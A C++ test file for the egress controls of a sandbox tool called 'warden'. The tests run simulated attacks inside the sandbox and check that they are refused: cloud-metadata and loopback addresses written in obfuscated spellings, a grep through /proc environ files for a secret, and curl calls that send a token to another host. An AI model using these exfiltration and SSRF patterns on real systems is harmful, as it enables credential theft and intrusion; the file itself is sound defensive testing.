// Network egress from `warden run --net proxy --allow ...`: real clients (curl, Python's urllib)
// inside the sandbox, real servers on the host's loopback started by the tests, and the attacks:
// denied hosts, skipping the proxy, private and metadata addresses in every spelling, UDP out.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <thread>

#include "harness.h"
#include "https_credential.h"
#include "loopback_http.h"

namespace warden::testing {
namespace {

std::vector<std::string> AllowLocal(const std::string& host, int port) {
  return {"--allow", host + ":" + std::to_string(port), "--resolve", host + "=127.0.0.1"};
}

TEST(Egress, AllowedHostOverPlainHttpWithCurlAndPython) {
  LoopbackHttpServer server("hello-from-host");
  std::string url = "http://allowed.test:" + std::to_string(server.port()) + "/";
  auto r = RunSh("curl -sS " + url + "; echo; python3 -c \"import urllib.request; print(urllib.request.urlopen('" + url +
                     "').read().decode())\"",
                 AllowLocal("allowed.test", server.port()));
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "hello-from-host\nhello-from-host\n");
  EXPECT_EQ(server.requests(), 2);
  ASSERT_EQ(r.record["egress"].size(), 2u) << r.record.dump();
  const auto& rec = r.record["egress"][0];
  EXPECT_EQ(rec["allowed"], true);
  EXPECT_EQ(rec["host"], "allowed.test");
  EXPECT_EQ(rec["port"], server.port());
  EXPECT_EQ(rec["resolved_address"], "127.0.0.1");
  EXPECT_GT(rec["bytes_up"].get<int>(), 0);
  EXPECT_GT(rec["bytes_down"].get<int>(), 0);
}

TEST(Egress, AllowedHostOverConnectTls) {
  TempDir dir;
  std::string gen = "openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=allowed.test -keyout " + dir.path() +
                    "/key.pem -out " + dir.path() + "/cert.pem >/dev/null 2>&1";
  ASSERT_EQ(system(gen.c_str()), 0);
  int port = 0;
  close(BindLoopback(SOCK_STREAM, &port));  // a free port for s_server
  pid_t server = fork();
  if (server == 0) {
    freopen("/dev/null", "w", stdout);
    freopen("/dev/null", "w", stderr);
    execlp("openssl", "openssl", "s_server", "-quiet", "-www", "-accept", ("127.0.0.1:" + std::to_string(port)).c_str(),
           "-cert", (dir.path() + "/cert.pem").c_str(), "-key", (dir.path() + "/key.pem").c_str(), nullptr);
    _exit(127);
  }
  usleep(500 * 1000);
  auto r = RunSh("curl -sS -k https://allowed.test:" + std::to_string(port) + "/ | head -c 200",
                 {"--allow", "allowed.test:" + std::to_string(port), "--resolve", "allowed.test=127.0.0.1"});
  kill(server, SIGTERM);
  waitpid(server, nullptr, 0);
  EXPECT_NE(r.out.find("s_server"), std::string::npos) << r.out << r.err;  // the -www status page
  ASSERT_GE(r.record["egress"].size(), 1u);
  EXPECT_EQ(r.record["egress"][0]["protocol"], "connect");
  EXPECT_EQ(r.record["egress"][0]["allowed"], true);
}

TEST(Egress, Socks5ClientsGoThroughTheSameRules) {
  LoopbackHttpServer server("via-socks");
  auto r = RunSh("curl -sS --socks5-hostname 127.0.0.1:3128 http://allowed.test:" + std::to_string(server.port()) +
                     "/; echo; curl -sS --socks5-hostname 127.0.0.1:3128 http://evil.test/ 2>&1",
                 AllowLocal("allowed.test", server.port()));
  EXPECT_NE(r.out.find("via-socks\n"), std::string::npos) << r.out;
  // curl reports the SOCKS5 reply code: 2, "connection not allowed by ruleset".
  EXPECT_NE(r.out.find("Can't complete SOCKS5 connection to evil.test. (2)"), std::string::npos) << r.out;
  EXPECT_EQ(server.requests(), 1);
}

TEST(Egress, DeniedHostGets403NamingTheRule) {
  LoopbackHttpServer server("should-not-see");
  auto r = RunSh("curl -sS -w '%{http_code}' http://evil.test:" + std::to_string(server.port()) + "/",
                 AllowLocal("allowed.test", server.port()));
  EXPECT_NE(r.out.find("evil.test is not on the allow-list"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
  EXPECT_EQ(server.requests(), 0);
  ASSERT_EQ(r.record["egress"].size(), 1u);
  EXPECT_EQ(r.record["egress"][0]["allowed"], false);
}

TEST(Egress, DirectConnectionsThatSkipTheProxyFail) {
  LoopbackHttpServer server("direct");
  std::string port = std::to_string(server.port());
  auto r = RunSh("curl -sS -m 3 --noproxy '*' http://allowed.test:" + port + "/ 2>&1; echo rc=$?; "
                 "curl -sS -m 3 --noproxy '*' http://127.0.0.1:" + port + "/ 2>&1; echo rc=$?; "
                 "curl -sS -m 3 --noproxy '*' http://1.1.1.1/ 2>&1; echo rc=$?",
                 AllowLocal("allowed.test", server.port()));
  EXPECT_EQ(r.out.find("direct"), std::string::npos) << r.out;
  EXPECT_EQ(server.requests(), 0);
  EXPECT_NE(r.out.find("rc=6"), std::string::npos) << "names resolve nowhere without the proxy:\n" << r.out;
  EXPECT_NE(r.out.find("rc=7"), std::string::npos) << r.out;
}

TEST(Egress, PrivateAndMetadataAddressesAreRefusedInEverySpelling) {
  LoopbackHttpServer server("internal");
  std::string port = std::to_string(server.port());
  // Even an allow entry for "localhost" does not open loopback: the address guard refuses it.
  std::string script = "for h in localhost 127.0.0.1 169.254.169.254 10.0.0.1 '[::1]' '[::ffff:127.0.0.1]' 0.0.0.0 "
                       "2130706433 0x7f000001 0177.0.0.1 127.1; do curl -sS -o /dev/null -w \"$h %{http_code}\\n\" "
                       "http://$h:" + port + "/; done";
  auto r = RunSh(script, {"--allow", "localhost:" + port});
  EXPECT_EQ(server.requests(), 0) << r.out;
  for (const char* h : {"localhost", "127.0.0.1", "169.254.169.254", "10.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0",
                        "2130706433", "0x7f000001", "0177.0.0.1", "127.1"}) {
    EXPECT_NE(r.out.find(std::string(h) + " 403"), std::string::npos) << h << "\n" << r.out;
  }
  bool loopback_reason = false;
  for (const auto& rec : r.record["egress"]) {
    if (rec["host"] == "localhost") loopback_reason = rec["rule_or_reason"].get<std::string>().find("loopback") != std::string::npos;
  }
  EXPECT_TRUE(loopback_reason) << r.record["egress"].dump();
}

TEST(Egress, WildcardAllowsSubdomainsOnly) {
  LoopbackHttpServer server("sub");
  std::string port = std::to_string(server.port());
  auto r = RunSh("for h in a.example.test example.test evilexample.test; do curl -sS -o /dev/null -w \"$h %{http_code}\\n\" "
                 "http://$h:" + port + "/; done",
                 {"--allow", "*.example.test:" + port, "--resolve", "a.example.test=127.0.0.1", "--resolve",
                  "example.test=127.0.0.1", "--resolve", "evilexample.test=127.0.0.1"});
  EXPECT_NE(r.out.find("a.example.test 200"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("\nexample.test 403"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("evilexample.test 403"), std::string::npos) << r.out;
  EXPECT_EQ(server.requests(), 1);
}

TEST(Egress, UdpAndDnsOutOfTheSandboxFail) {
  LoopbackUdpSink sink;  // must receive nothing
  const std::string port = sink.port_text();
  auto r = RunWarden({{"run", "--allow", "allowed.test", "--", "python3", "-c",
                       "import socket\n"
                       "s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                       "for dst in [('127.0.0.1', " + port + "), ('8.8.8.8', 53)]:\n"
                       "  try:\n    s.sendto(b'leak', dst); print('sent', dst[0])\n  except OSError as e: print('refused', dst[0], e.errno)\n"
                       "try:\n  print(socket.gethostbyname('evil.test'))\nexcept OSError as e: print('dns', type(e).__name__)\n"}});
  EXPECT_FALSE(sink.Received(300)) << "a datagram from the sandbox reached the host";
  EXPECT_NE(r.out.find("refused 8.8.8.8 101"), std::string::npos) << r.out << r.err;  // ENETUNREACH
  EXPECT_NE(r.out.find("dns gaierror"), std::string::npos) << r.out;
  bool queried = false;
  for (const auto& q : r.record["dns"]) queried |= q.dump().find("evil.test") != std::string::npos;
  EXPECT_TRUE(queried) << r.record["dns"].dump();
}

TEST(Egress, BadAllowEntriesAre125NamingTheEntry) {
  for (const char* bad : {"*", "*.com", "http://example.com/", "exa mple.com", "example.com:99999"}) {
    auto r = RunWarden({{"run", "--allow", bad, "--", "true"}});
    EXPECT_EQ(r.exit_code, 125) << bad;
    EXPECT_NE(r.err.find(bad), std::string::npos) << bad << ": " << r.err;
  }
}

TEST(Egress, LandlockLimitsTcpToTheProxyPort) {
  // Second layer under the namespace: with --net proxy, TCP connects go to the proxy's port only
  // and TCP binds are refused, so nothing inside can set up its own way around the proxy.
  auto r = RunWarden({{"run", "--allow", "allowed.test", "--", "python3", "-c",
                       "import socket\n"
                       "s=socket.socket()\n"
                       "try:\n  s.bind(('127.0.0.1', 8000)); print('bound')\nexcept OSError as e: print('bind', e.errno)\n"
                       "c=socket.socket()\n"
                       "try:\n  c.connect(('127.0.0.1', 53)); print('connected')\nexcept OSError as e: print('connect', e.errno)\n"
                       "p=socket.socket()\np.connect(('127.0.0.1', 3128)); print('proxy ok')\n"}});
  EXPECT_EQ(r.out, "bind 13\nconnect 13\nproxy ok\n") << r.err;  // EACCES from Landlock
  EXPECT_GE(r.record["landlock_abi"].get<int>(), 4);
}

TEST(Egress, MalformedRequestsGet400AndAreLogged) {
  auto r = RunWarden({{"run", "--allow", "allowed.test", "--", "python3", "-c",
                       "import socket\n"
                       "s=socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'GARBAGE\\r\\n\\r\\n')\n"
                       "print(s.recv(200).split(b'\\r\\n')[0].decode())\n"}});
  EXPECT_EQ(r.out, "HTTP/1.1 400 Bad Request\n") << r.err;
  bool logged = false;
  for (const auto& n : r.record["notes"]) logged |= n.get<std::string>().find("malformed request line") != std::string::npos;
  EXPECT_TRUE(logged) << r.record["notes"].dump();
}

TEST(Egress, NoNetworkByDefault) {
  auto r = RunSh("curl -sS -m 3 http://example.com/ 2>&1; echo rc=$?; env | grep -ci proxy");
  EXPECT_NE(r.out.find("rc=6"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("\n0\n"), std::string::npos) << r.out;
  EXPECT_TRUE(r.record["egress"].empty());
}

// A credential granted for one host (--egress-credential): hostile code that looks for the value
// everywhere it can reach finds only the placeholder; the host gets the value in the
// Authorization header the proxy sets; an echo of it comes back masked; the placeholder sent to
// any other host is refused and recorded.
TEST(Egress, EgressCredentialIsUsedButNeverHeldBySandboxedCode) {
  const std::string secret = "ghp_RealValue0123456789abcdefXYZ";
  LoopbackHttpServer server("", /*echo=*/true);
  const std::string port = server.port_text();
  const std::string script =
      "echo \"seen=$API_TOKEN\"; "
      "grep -rals 'R[e]alValue' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /etc 2>/dev/null | sed 's/^/found:/'; "
      "curl -sS -H \"Authorization: Bearer $API_TOKEN\" 'http://allowed.test:" + port + "/?k=1'; echo; "
      "curl -sS -w ' %{http_code}' 'http://other.test:" + port + "/?leak='\"$API_TOKEN\"; echo";
  Invocation inv;
  inv.args = {"run", "--allow", "allowed.test:" + port, "--allow", "other.test:" + port, "--resolve",
              "allowed.test=127.0.0.1", "--resolve", "other.test=127.0.0.1", "--egress-credential",
              "API_TOKEN=allowed.test:" + port, "--", "sh", "-c", script};
  inv.extra_env = {{"API_TOKEN", secret}};
  auto r = RunWarden(inv);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.find("RealValue"), std::string::npos) << "the sandbox saw the value:\n" << r.out;
  EXPECT_EQ(r.out.find("found:"), std::string::npos) << r.out;
  EXPECT_EQ(r.record.dump().find("RealValue"), std::string::npos) << r.record.dump();
  // The placeholder: as long as the value, and what the echo shows in its place.
  auto seen = r.out.find("seen=");
  ASSERT_NE(seen, std::string::npos) << r.out;
  const std::string placeholder = r.out.substr(seen + 5, secret.size());
  EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
  // What the host received: the value, in the header the proxy set.
  EXPECT_NE(server.last_request().find("Authorization: Bearer " + secret), std::string::npos) << server.last_request();
  EXPECT_EQ(server.last_request().find(placeholder), std::string::npos) << server.last_request();
  EXPECT_EQ(server.requests(), 1) << "the request to other.test never reached it";
  EXPECT_NE(r.out.find("may only go to allowed.test:" + port + ", in its Authorization header"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("(it was in the request line)\n 403"), std::string::npos) << r.out;
  bool refused = false;
  for (const auto& rec : r.record["egress"])
    refused |= rec["host"] == "other.test" && rec["allowed"] == false &&
               rec["rule_or_reason"].get<std::string>().find("credential API_TOKEN") != std::string::npos;
  EXPECT_TRUE(refused) << r.record["egress"].dump();
}

// The same over HTTPS (--egress-credential ENV=https://HOST:PORT): the proxy terminates TLS for
// that host with a CA made for this sandbox, which the sandbox trusts through SSL_CERT_FILE and
// friends; the real server (Python's ssl, its own CA, which warden is told to trust) gets the
// value; curl and Python's urllib inside see only the placeholder; the bundle is read-only inside
// and gone from the host afterwards.
TEST(Egress, EgressCredentialOverHttpsIsPutInByTheProxyAndNeverHeld) {
  const std::string secret = "ghp_TlsValue0123456789abcdefXYZ";
  TempDir dir;
  const std::string d = dir.path();
  LoopbackHttpsServer server(d, "allowed.test");
  const std::string port = server.port_text();
  ASSERT_FALSE(port.empty()) << "the HTTPS server did not start";
  const std::string script =
      "grep -rals 'T[l]sValue' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /etc /run 2>/dev/null | sed 's/^/found:/'; "
      "curl -sS -H \"Authorization: Bearer $API_TOKEN\" \"$URL/curl\"; "
      "python3 -c \"import os, urllib.request as u; print(u.urlopen(u.Request(os.environ['URL'] + "
      "'/py', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})).read().decode())\"; "
      "test -r \"$SSL_CERT_FILE\" && echo bundle=$SSL_CERT_FILE; "
      "( : >> \"$SSL_CERT_FILE\" ) 2>/dev/null && echo bundle-writable; "
      "curl -sS -w ' %{http_code}' -H \"X-Key: $API_TOKEN\" 'http://allowed.test:" + port + "/clear'; echo";
  auto [r, placeholder] = RunWithHttpsCredential(server, d, secret, {}, script);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.find("TlsValue"), std::string::npos) << "the sandbox saw the value:\n" << r.out;
  EXPECT_EQ(r.out.find("found:"), std::string::npos) << r.out;
  EXPECT_EQ(r.record.dump().find("TlsValue"), std::string::npos) << r.record.dump();
  ASSERT_FALSE(placeholder.empty()) << r.out;
  // Both clients reached the server over TLS they verified, and its echo came back masked.
  EXPECT_NE(r.out.find("GET /curl HTTP/1.1"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("GET /py HTTP/1.1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("bundle=/run/warden/egress-ca.pem"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("bundle-writable"), std::string::npos) << r.out;
  // In clear text to the same host: refused, never sent.
  EXPECT_NE(r.out.find("may only go to https://allowed.test:" + port), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("(it was in header X-Key)\n 403"), std::string::npos) << r.out;
  const std::string log = server.log();
  EXPECT_NE(log.find("GET /curl HTTP/1.1\r\nHost: allowed.test:" + port), std::string::npos) << log;
  EXPECT_NE(log.find("GET /py HTTP/1.1"), std::string::npos) << log;
  size_t with_value = 0;
  for (size_t at = 0; (at = log.find("\r\nAuthorization: Bearer " + secret + "\r\n", at)) != std::string::npos; ++at) ++with_value;
  EXPECT_EQ(with_value, 2u) << log;
  EXPECT_EQ(log.find(placeholder), std::string::npos) << log;
  EXPECT_EQ(log.find("/clear"), std::string::npos) << log;
  int https = 0;
  for (const auto& rec : r.record["egress"]) https += rec["protocol"] == "https" && rec["allowed"] == true;
  EXPECT_EQ(https, 2) << r.record["egress"].dump();
  // The bundle's directory went with the run.
  for (const auto& e : std::filesystem::directory_iterator(d))
    EXPECT_FALSE(e.path().filename().string().starts_with("warden-egress-ca-")) << e.path();
}

// Issue 31's attack (https_credential.h), over plain HTTP and HTTPS: the placeholder in the query,
// the body (sized and chunked) or another header under the attacker's own Authorization is
// refused; that Authorization is replaced by the user's; a gzip-compressed note is not read back.
TEST(Egress, EgressCredentialAttackCannotPlantTheValueOrReadItBack) {
  TempDir dir;
  ExpectCredentialAttackFailed(RunCredentialAttack(dir.path(), {}, /*tls=*/true));
}

TEST(Egress, EgressCredentialMistakesAre125NamingTheCredential) {
  Invocation unset;
  unset.args = {"run", "--allow", "api.example.com", "--egress-credential", "NOT_SET_ANYWHERE=api.example.com", "--", "true"};
  auto a = RunWarden(unset);
  EXPECT_EQ(a.exit_code, 125);
  EXPECT_NE(a.err.find("--egress-credential NOT_SET_ANYWHERE: not set in warden's environment"), std::string::npos) << a.err;

  Invocation not_allowed;
  not_allowed.args = {"run", "--allow", "api.example.com", "--egress-credential", "TOKEN=other.example.com:8080", "--", "true"};
  not_allowed.extra_env = {{"TOKEN", "value-0123456789"}};
  auto b = RunWarden(not_allowed);
  EXPECT_EQ(b.exit_code, 125);
  EXPECT_NE(b.err.find("other.example.com:8080 is not on the allow list"), std::string::npos) << b.err;
  EXPECT_EQ(b.err.find("value-0123456789"), std::string::npos);

  Invocation no_net;
  no_net.args = {"run", "--net", "none", "--egress-credential", "TOKEN=api.example.com", "--", "true"};
  no_net.extra_env = {{"TOKEN", "value-0123456789"}};
  auto c = RunWarden(no_net);
  EXPECT_EQ(c.exit_code, 125);
  EXPECT_NE(c.err.find("needs --net proxy"), std::string::npos) << c.err;

  Invocation both;
  both.args = {"run", "--allow", "api.example.com", "--env-inherit", "TOKEN", "--egress-credential", "TOKEN=api.example.com", "--", "true"};
  both.extra_env = {{"TOKEN", "value-0123456789"}};
  auto d = RunWarden(both);
  EXPECT_EQ(d.exit_code, 125);
  EXPECT_NE(d.err.find("the sandbox may only see the placeholder"), std::string::npos) << d.err;

  // Where the value goes: a header name and a template with {} once.
  for (const char* spec : {"TOKEN=api.example.com;header=Bad Name", "TOKEN=api.example.com;header=Host",
                           "TOKEN=api.example.com;template=Bearer", "TOKEN=api.example.com;colour=red"}) {
    Invocation placement;
    placement.args = {"run", "--allow", "api.example.com", "--egress-credential", spec, "--", "true"};
    placement.extra_env = {{"TOKEN", "value-0123456789"}};
    auto e = RunWarden(placement);
    EXPECT_EQ(e.exit_code, 125) << spec;
    EXPECT_NE(e.err.find("--egress-credential TOKEN"), std::string::npos) << e.err;
    EXPECT_EQ(e.err.find("value-0123456789"), std::string::npos);
  }
}

// The gateway's session check (--decision-fd, egress/decision_channel.h), answered here by a
// stand-in for the gateway that speaks the wire format with raw sockets: it refuses whatever
// carries "secret" and lets the rest go. The sandbox's code cannot see the channel.
TEST(Egress, TheSessionCheckOnADecisionFdDecidesEachRequestAndIsNotTheSandboxs) {
  LoopbackHttpServer server("hello-from-host");
  int fds[2];
  ASSERT_EQ(socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, fds), 0);
  std::atomic<int> asked{0};
  std::thread gateway([&] {
    char buf[200000];
    for (;;) {
      ssize_t n = recv(fds[0], buf, sizeof buf, 0);
      if (n <= 0) return;
      std::string message(buf, static_cast<size_t>(n));
      auto head = nlohmann::json::parse(message.substr(0, message.find('\n')));
      const bool refuse = message.find("secret") != std::string::npos;
      nlohmann::json answer = {{"id", head["id"]}, {"allow", !refuse}, {"reason", refuse ? "test says no" : ""}};
      std::string text = answer.dump();
      ++asked;
      if (send(fds[0], text.data(), text.size(), MSG_NOSIGNAL) < 0) return;
    }
  });
  const std::string url = "http://allowed.test:" + std::to_string(server.port());
  std::vector<std::string> flags = AllowLocal("allowed.test", server.port());
  flags.insert(flags.begin(), {"--decision-fd", std::to_string(fds[1])});
  Invocation inv;
  inv.args = {"run"};
  inv.args.insert(inv.args.end(), flags.begin(), flags.end());
  inv.args.insert(inv.args.end(),
                  {"--", "sh", "-c",
                   "curl -sS " + url + "/fine; echo; curl -sS -d 'the secret' " + url + "/post; echo; "
                   "ls -l /proc/self/fd/ | grep -c socket || true"});
  inv.inherit_fds = {fds[1]};
  auto r = RunWarden(inv);
  close(fds[1]);
  shutdown(fds[0], SHUT_RDWR);
  gateway.join();
  close(fds[0]);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("hello-from-host\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("warden egress: denied: session check: test says no"), std::string::npos) << r.out;
  EXPECT_TRUE(r.out.ends_with("\n0\n")) << r.out;  // no socket among the code's descriptors
  EXPECT_EQ(asked.load(), 2);
  EXPECT_EQ(server.requests(), 1);
  ASSERT_EQ(r.record["egress"].size(), 2u) << r.record.dump();
  EXPECT_EQ(r.record["egress"][1]["allowed"], false);
  EXPECT_EQ(r.record["egress"][1]["rule_or_reason"], "session check: test says no");
}

TEST(Egress, DecisionFdMistakesAre125NamingTheFd) {
  Invocation closed;
  closed.args = {"run", "--allow", "api.example.com", "--decision-fd", "57", "--", "true"};
  auto a = RunWarden(closed);
  EXPECT_EQ(a.exit_code, 125);
  EXPECT_NE(a.err.find("--decision-fd 57: not an open descriptor"), std::string::npos) << a.err;

  int p[2];
  ASSERT_EQ(pipe2(p, O_CLOEXEC), 0);
  Invocation pipe_fd;
  pipe_fd.args = {"run", "--allow", "api.example.com", "--decision-fd", std::to_string(p[0]), "--", "true"};
  pipe_fd.inherit_fds = {p[0]};
  auto b = RunWarden(pipe_fd);
  close(p[0]);
  close(p[1]);
  EXPECT_EQ(b.exit_code, 125);
  EXPECT_NE(b.err.find("not a SOCK_SEQPACKET socket"), std::string::npos) << b.err;

  int fds[2];
  ASSERT_EQ(socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, fds), 0);
  Invocation no_net;
  no_net.args = {"run", "--decision-fd", std::to_string(fds[1]), "--", "true"};
  no_net.inherit_fds = {fds[1]};
  auto c = RunWarden(no_net);
  close(fds[0]);
  close(fds[1]);
  EXPECT_EQ(c.exit_code, 125);
  EXPECT_NE(c.err.find("only a sandbox with --net proxy"), std::string::npos) << c.err;
}

}  // namespace
}  // namespace warden::testing
